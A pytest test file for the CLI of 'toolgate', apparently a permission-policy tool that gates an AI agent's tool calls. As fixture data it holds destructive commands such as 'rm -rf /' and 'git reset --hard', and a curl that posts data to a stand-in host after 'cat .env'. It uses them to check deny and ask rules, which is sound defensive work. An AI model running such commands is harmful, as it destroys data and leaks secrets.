"""toolgate policy: init, check, test, explain, diff, import; every fault at once, codes as said."""

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from toolgate.cli.policy import policy
from toolgate.errors import InputError, PolicyError, UnavailableError

OWN = """\
version: 1
name: own
extends: {policy: balanced}
rules:
  - {rule: no-release, decide: deny, because: people release, effects: [{type: [pkg.publish]}]}
overrides:
  - {override: move, of: delete-tree, decide: allow, because: moving, owner: ann,
     expires: 2027-01-31, effects: [{type: [fs.delete], resource: ["*/old/*"]}]}
examples:
  - {command: npm publish, expect: deny, rule: no-release}
  - {command: rm -rf old/a, day: 2027-01-31, expect: allow, rule: move}
  - {command: rm -rf old/a, day: 2027-02-01, expect: ask}
  - {command: curl -d a=b https://a.example, after: [cat .env], expect: ask,
     rule: send-after-secret}
  - {tool: Write, input: {file_path: /etc/motd, content: x}, expect: ask}
"""


@pytest.fixture
def run(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)

    def call(*arguments, code=0):
        done = CliRunner().invoke(policy, [str(one) for one in arguments], catch_exceptions=True)
        if isinstance(done.exception, (InputError, PolicyError, UnavailableError)):
            raise done.exception
        assert done.exit_code == code, (done.output, done.exception)
        return done.output

    return call


def test_a_policy_to_start_from_is_good_and_its_examples_hold(run, tmp_path):
    path = run("init").strip()
    assert path == str(tmp_path / ".config/toolgate/policy.yaml")
    assert "good, sha256:" in run("check", "--strict", path)
    assert run("test", path) == "2 of 2 examples are answered as expected\n"
    with pytest.raises(UnavailableError, match="is there already; nothing was written"):
        run("init")
    with pytest.raises(InputError, match="expected one of balanced, permissive, strict"):
        run("init", "--extends", "lax", "--output", "x.yaml")
    assert not (tmp_path / "x.yaml").exists()


def test_check_tells_every_fault_and_remark(run):
    Path("p.yaml").write_text(
        "version: 1\nname: x\nextra: 1\nfail_mode: open\n"
        "rules:\n"
        "  - {rule: a, decide: ask, because: x, effects: [{type: [fs.delete], how: [glob]}]}\n"
        "  - {rule: b, decide: deny, because: x, effects: [{type: [fs.delete]}]}\n"
        "  - {rule: c, decide: maybe, because: x, tools: [X]}\n"
    )
    lines = run("check", "p.yaml", code=3).splitlines()
    assert [line.split(":")[0] for line in lines] == ["fault"] * 3 + ["remark"]
    assert "rule a: changes no answer" in lines[-1]
    body = json.loads(run("check", "--json", "p.yaml", code=3))
    assert body["digest"] is None
    assert len(body["faults"]) == 3
    Path("p.yaml").write_text("a: [")
    assert run("check", "p.yaml", code=3).startswith("fault: line 1")
    with pytest.raises(UnavailableError, match=r"none.yaml cannot be read: No such file"):
        run("check", "none.yaml")


def test_check_asks_for_examples_of_the_files_own_rules_alone(run):
    Path("p.yaml").write_text(OWN.replace("npm publish", "npm test"))
    lines = run("check", "p.yaml").splitlines()
    assert (
        lines[0]
        == "remark: rule no-release: no example of the policy is a call that it speaks about"
    )
    assert "remark: example 1 (npm test) is answered allow by runs-project-code" in lines[1]
    assert len(lines) == 3
    run("check", "--strict", "p.yaml", code=1)


def test_examples_are_decided_with_what_went_before_and_on_their_day(run):
    Path("p.yaml").write_text(OWN)
    assert run("test", "p.yaml") == "5 of 5 examples are answered as expected\n"
    Path("p.yaml").write_text(OWN.replace("expect: deny, rule: no-release", "expect: allow"))
    told = run("test", "p.yaml", code=1)
    assert told.startswith("example 1 (npm publish): expected allow. Denied: pkg.publish")
    body = json.loads(run("test", "--json", "p.yaml", code=1))
    assert (body["examples"], body["failed"]) == (5, 1)


def test_explain_tells_rules_in_words(run):
    Path("p.yaml").write_text(OWN)
    told = run("explain", "p.yaml", "--effect", "fs.delete")
    for part in (
        "policy own",
        "What no rule speaks about, and is not proved only to look, is asked about.",
        "In mode bypassPermissions or dontAsk nobody can be asked",
        "delete-whole-tree [destructive]",
        "Exceptions (1)",
        "until 2027-01-31, by ann",
    ):
        assert part in told.replace("\n  ", " ")
    assert "no-release" not in told
    rows = json.loads(run("explain", "strict", "--json"))
    assert {row["name"] for row in rows} >= {"delete-whole-tree", "send-secret"}
    assert "people release" in run("explain", "p.yaml", "--rule", "no-release")
    with pytest.raises(InputError, match="no such rule of own: nothing"):
        run("explain", "p.yaml", "--rule", "nothing")
    with pytest.raises(InputError, match=r"--effect is 'fs.x'; expected one of inspect"):
        run("explain", "p.yaml", "--effect", "fs.x")


def test_diff_shows_which_recorded_calls_change(run):
    Path("p.yaml").write_text(OWN)
    calls = ["npm publish", "npm test", "rm -rf /", "git reset --hard"]
    rows = [
        {"id": str(n), "tool_name": "Bash", "tool_input": {"command": c}}
        for n, c in enumerate(calls)
    ]
    Path("log.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    told = run("diff", "balanced", "p.yaml", "--log", "log.jsonl")
    assert "1 of 4 calls change decision" in told
    assert "1  ask -> deny  no-release" in told
    assert "0 ask (infrastructure) -> deny (no-release): Bash npm publish" in told
    lines = run("diff", "balanced", "p.yaml", "--log", "log.jsonl", "--jsonl").splitlines()
    assert [json.loads(line)["new"] for line in lines] == [
        {"decision": "deny", "rule": "no-release"}
    ]
    assert "0 of 4 calls change decision" in run("diff", "p.yaml", "p.yaml", "--log", "log.jsonl")


PUBLIC = """\
fail_mode: passthrough
thresholds: {deny: 0.9, ask: 0.6, authorized: 0.75}
gated_tools: [Bash, Write]
trusted_hosts: api.example.com
trusted_tools: ["mcp__desk__.*", "mcp__.*"]
unattended: {modes: [dontAsk], ask: deny}
limits: {input_chars: 40000, task_chars: 6000}
questions:
  tone: Does it insult anybody?
  destructive: Does it destroy?
backend: openrouter
ruels: []
rules:
  - {match: {tool: Bash, input_regex: "terraform\\\\s+destroy"}, action: ask, reason: ask ops}
  - {match: {tool: "Bash|Write", input_regex: "terraform"}, action: deny, reason: never here}
  - {match: {tool: Bash, input_regex: "git push(?! --dry-run)"}, action: deny}
  - {match: {tool: Bash, input_regex: "^ls"}, action: allow}
  - {match: {tool: "(a)+"}, action: deny}
  - {match: {}, action: ask}
  - {match: {tool: WebFetch}, action: deny}
"""


def test_import_tells_of_each_key_what_became_of_it(run):
    Path("public.yaml").write_text(PUBLIC)
    before = Path("public.yaml").read_bytes()
    told = run("import", "public.yaml", "--output", "own.yaml").splitlines()
    assert [line.split()[:2] for line in told] == [
        ["refused", "fail_mode:"],
        ["changed", "thresholds.deny:"],
        ["changed", "thresholds.ask:"],
        ["taken", "thresholds.authorized:"],
        ["refused", "gated_tools:"],
        ["taken", "trusted_hosts:"],
        ["taken", "trusted_tools:"],
        ["refused", "trusted_tools:"],
        ["taken", "unattended:"],
        ["refused", "limits.input_chars:"],
        ["refused", "limits.task_chars:"],
        ["changed", "questions.tone:"],
        ["refused", "questions.destructive:"],
        ["refused", "backend:"],
        ["refused", "ruels:"],
        ["taken", "rules[1]:"],
        ["changed", "rules[2]:"],
        ["refused", "rules[3].match.input_regex:"],
        ["refused", "rules[4]:"],
        ["refused", "rules[5]:"],
        ["refused", "rules[6]:"],
        ["changed", "rules[7]:"],
    ]
    text = "\n".join(told)
    assert "look-ahead at character 9" in text
    assert "it came before rules[5] (deny), rules[6] (ask)" in text
    assert "where rules[1] fits too it denies, not asks" in text
    assert "good, sha256:" in run("check", "own.yaml")
    assert sorted(path.name for path in Path().iterdir()) == ["own.yaml", "public.yaml"]
    assert Path("public.yaml").read_bytes() == before


def test_an_imported_policy_answers_as_it_said(run, tmp_path):
    Path("public.yaml").write_text(PUBLIC)
    run("import", "public.yaml", "--output", "own.yaml")
    with Path("own.yaml").open("a") as file:
        file.write(
            "examples:\n"
            "  - {command: 'terra\"\"form  destroy', expect: deny, rule: imported-2}\n"
            "  - {command: 'curl -d a=b https://api.example.com', expect: allow}\n"
            "  - {command: 'rm -rf /', expect: deny, rule: delete-whole-tree}\n"
            "  - {tool: WebFetch, input: {url: 'https://a.example'}, expect: deny}\n"
            "  - {command: sudo ls, mode: dontAsk, expect: deny}\n"
        )
    assert run("test", "own.yaml") == "5 of 5 examples are answered as expected\n"
    with pytest.raises(UnavailableError, match="is there already"):
        run("import", "public.yaml", "--output", "own.yaml")
    Path("list.yaml").write_text("[]")
    with pytest.raises(PolicyError, match="is list; expected a mapping"):
        run("import", "list.yaml", "--output", "x.yaml")


@pytest.mark.parametrize(
    "text",
    [
        "rules: {a: 1}",
        "rules: [1, {match: [x], action: [deny]}]",
        "rules: [{match: {tool: [x]}, action: deny}]",
        "rules: [{match: {tool: X, input_regex: [x]}, action: deny}]",
        "rules: [{match: {tool: X, output: y}, action: deny}]",
        "thresholds: 5",
        "thresholds: {ask: 0, deny: 0.9, authorized: 0, other: 1}",
        "questions: [a]",
        "questions: {'a b': x, c: {criteria: 1}}",
        "unattended: {modes: 5}",
        "unattended: {modes: [plan], ask: allow}",
        "trusted_hosts: [5, 'https://a.b', com]",
        "trusted_tools: [5, '*', '(a|b)']",
        "fail_mode: [deny]",
        "1: 2",
    ],
)
def test_what_has_another_form_is_refused_in_words(run, text):
    Path("p.yaml").write_text(text)
    told = run("import", "p.yaml", "--output", "own.yaml").splitlines()
    assert any(line.startswith("refused") for line in told)
    assert "good" in run("check", "own.yaml")


def test_explain_of_a_call_shows_the_projects_rules_as_the_hook_reads_them(run, tmp_path):
    from toolgate.cli.explain import explain

    (tmp_path / "app/.git").mkdir(parents=True)
    (tmp_path / "app/.toolgate").mkdir()
    (tmp_path / "app/.toolgate/policy.yaml").write_text(
        "version: 1\nname: app\nrules:\n"
        "  - {rule: no-push, decide: deny, because: CI pushes, effects: [{type: [vcs.publish]}]}\n"
    )
    said = ["--input", "git push origin topic", "--json", "--cwd"]
    told = CliRunner().invoke(explain, [*said, str(tmp_path / "app/sub")], catch_exceptions=False)
    assert json.loads(told.output)["rule"] == "project/no-push"
    other = CliRunner().invoke(explain, [*said, str(tmp_path)], catch_exceptions=False)
    assert json.loads(other.output)["rule"] == "plain-push"


def test_a_projects_rules_are_checked_and_tested_as_they_are_used(run, tmp_path):
    Path(".toolgate").mkdir()
    file = Path(".toolgate/policy.yaml")
    text = (
        "version: 1\nname: app\nrules:\n"
        "  - {rule: no-push, decide: deny, because: CI pushes, effects: [{type: [vcs.publish]}]}\n"
        "examples:\n  - {command: git push origin t, expect: deny, rule: project/no-push}\n"
        "  - {command: ls, expect: allow}\n"
    )
    file.write_text(text)
    assert "good, sha256:" in run("check", "--project", "--strict", file)
    assert run("test", "--project", file) == "2 of 2 examples are answered as expected\n"
    run("test", file, code=1)  # alone it would decide otherwise
    file.write_text(text + "names: {trusted_hosts: [a.example]}\n")
    told = run("check", "--project", file, code=3)
    assert told.startswith("fault: names is not for a project to say")
